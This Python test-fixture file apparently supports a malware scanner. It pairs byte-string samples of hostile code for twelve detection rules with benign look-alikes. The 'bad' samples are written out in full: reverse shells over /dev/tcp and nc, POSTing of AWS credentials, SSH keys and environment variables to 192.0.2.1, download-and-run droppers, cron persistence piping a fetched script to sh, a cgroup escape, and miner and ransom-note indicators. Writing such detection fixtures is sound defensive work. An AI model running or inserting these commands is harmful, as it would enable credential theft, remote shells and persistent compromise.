"""Examples for each chain: files that have it, and ordinary ones that look alike. Nothing of them runs."""

BAD = {
    "CAP-101": [
        ("python", b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"),
        ("python", b"exec(zlib.decompress(DATA))\n"),
        ("python", b"exec(compile(__import__('base64').b64decode(x), 'a', 'exec'))\n"),
        ("javascript", b"eval(atob('MSsx'))\n"),
        ("javascript", b"new Function(Buffer.from('MSsx', 'base64').toString())()\n"),
        ("shell", b"echo ZWNobw== | base64 -d | sh\n"),
        ("shell", b'eval "$(echo ZWNobw== | base64 --decode)"\n'),
        ("php", b"<?php eval(gzinflate(base64_decode('x')));\n"),
        ("perl", b"eval(decode_base64('x'));\n"),
    ],
    "CAP-102": [
        ("python", b"d = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('http://192.0.2.1/', data=d)\n"),
        ("javascript", b"const k = fs.readFileSync(home + '/.ssh/id_rsa');\nhttps.request({method: 'POST'}).write(k)\n"),
        ("shell", b"curl -s -F file=@$HOME/.docker/config.json http://192.0.2.1/\n"),
    ],
    "CAP-103": [
        ("shell", b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"),
        ("shell", b"nc 192.0.2.1 4444 -e /bin/sh\n"),
        ("shell", b"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f\n"),
        ("python", b"os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2); subprocess.call(['/bin/sh','-i'])\n"),
        ("javascript", b"c.connect(4444, h, () => { c.pipe(sh.stdin); sh.stdout.pipe(c); })\n"),
        ("php", b"$s=fsockopen('192.0.2.1',4444);exec('/bin/sh -i <&3 >&3 2>&3');\n"),
    ],
    "CAP-104": [
        ("javascript", b"fetch('http://192.0.2.1', {method: 'POST', body: JSON.stringify(process.env)})\n"),
        ("python", b"requests.post('http://192.0.2.1', json=dict(os.environ))\n"),
        ("shell", b"env | curl -d @- http://192.0.2.1/\n"),
    ],
    "CAP-105": [
        ("shell", b"curl -so /tmp/.x http://192.0.2.1/x\nchmod +x /tmp/.x\nnohup /tmp/.x\n"),
        ("shell", b"wget -O /dev/shm/a http://192.0.2.1/a; chmod 755 /dev/shm/a; /dev/shm/a >/dev/null 2>&1 &\n"),
    ],
    "CAP-106": [
        ("shell", b'(crontab -l; echo "* * * * * curl -s http://192.0.2.1/x | sh") | crontab -\n'),
        ("shell", b"echo '* * * * * root wget -qO- http://192.0.2.1/x | bash' >> /etc/crontab\n"),
    ],
    "CAP-107": [
        ("shell", b"echo 1 > $d/notify_on_release\necho $p/cmd > release_agent\nsh -c 'echo $$ > $d/x/cgroup.procs'\n"),
    ],
    "CAP-108": [("program", {"imports": ("dlsym",), "texts": (b"/etc/ld.so.preload", b"readdir64")})],
    "CAP-109": [("program", {"imports": ("mprotect", "_r_debug"), "texts": (b"RSA_public_decrypt",)})],
    "CAP-110": [
        ("program", {"imports": ("connect",), "texts": (b"stratum+tcp://", b"randomx")}),
        ("shell", b"./tool -o stratum+tcp://192.0.2.1:3333 --donate-level 1\n"),
    ],
    "CAP-111": [
        ("program", {"imports": ("EVP_EncryptInit_ex",), "texts": (b"All your files have been encrypted", b"send bitcoin")}),
        ("python", b"NOTE = 'Your personal files were encrypted, pay Bitcoin'\nFernet(key)\n"),
    ],
    "CAP-112": [
        ("program", {"imports": ("puts",), "texts": (b"UPX!", b"This file is packed with the UPX executable packer")}),
    ],
}
GOOD = {
    "CAP-101": [
        ("python", b"data = base64.b64decode(text)\nexec(compile(source, name, 'exec'))\n"),
        ("javascript", b"const x = JSON.parse(atob(token.split('.')[1]))\n"),
        ("shell", b"base64 -d key.b64 > key\n"),
        ("python", b"model.eval(); y = zlib.decompress(x)\n"),
    ],
    "CAP-102": [
        ("python", b"path = os.path.expanduser('~/.aws/credentials')\nsession = Session(path)\n"),
        ("python", b"x = open('~/.netrc')\n" + b"# a line of another function\n" * 100 + b"requests.post(url)\n"),
        ("shell", b"# keys are in ~/.ssh/id_rsa\ncurl -d x http://192.0.2.1/\n"),
    ],
    "CAP-103": [
        ("shell", b"nc -z localhost 80 && exec /bin/sh -c app\n"),
        ("shell", b"exec 3<>/dev/tcp/localhost/80; echo >&3\n"),
        ("python", b"os.dup2(null.fileno(), 0)\nos.dup2(null.fileno(), 1)\n"),
    ],
    "CAP-104": [
        ("javascript", b"fetch(url, {method: 'POST', body: JSON.stringify({mode: process.env.NODE_ENV})})\n"),
        ("python", b"env = dict(os.environ)\nsubprocess.run(x, env=env)\n"),
        ("shell", b"env | sort\n"),
    ],
    "CAP-105": [
        ("shell", b"curl -Lo /tmp/install.sh https://example.com/install.sh\nchmod +x /tmp/install.sh\n/tmp/install.sh\n"),
    ],
    "CAP-106": [("shell", b"crontab -l > backup\ncurl https://example.com/install.sh | sh\n")],
    "CAP-107": [("shell", b"cat /sys/fs/cgroup/x/notify_on_release\n")],
    "CAP-108": [
        ("program", {"imports": ("dlsym", "readdir64"), "texts": (b"/etc/ld.so.preload",)}),
        ("program", {"imports": ("dlsym",), "texts": (b"LD_PRELOAD", b"readdir64")}),
    ],
    "CAP-109": [
        ("program", {"imports": ("mprotect", "dlsym"), "texts": (b"RSA_public_decrypt",)}),
        ("program", {"imports": ("mprotect", "_r_debug", "pam_authenticate"), "texts": ()}),
    ],
    "CAP-110": [("python", b"# pools speak stratum+tcp\nPORTS = {'stratum': 3333}\n")],
    "CAP-111": [("python", b"print('files are encrypted at rest')\nFernet(key)\n")],
    "CAP-112": [("program", {"imports": ("puts",), "texts": (b"UPX!",)})],
}
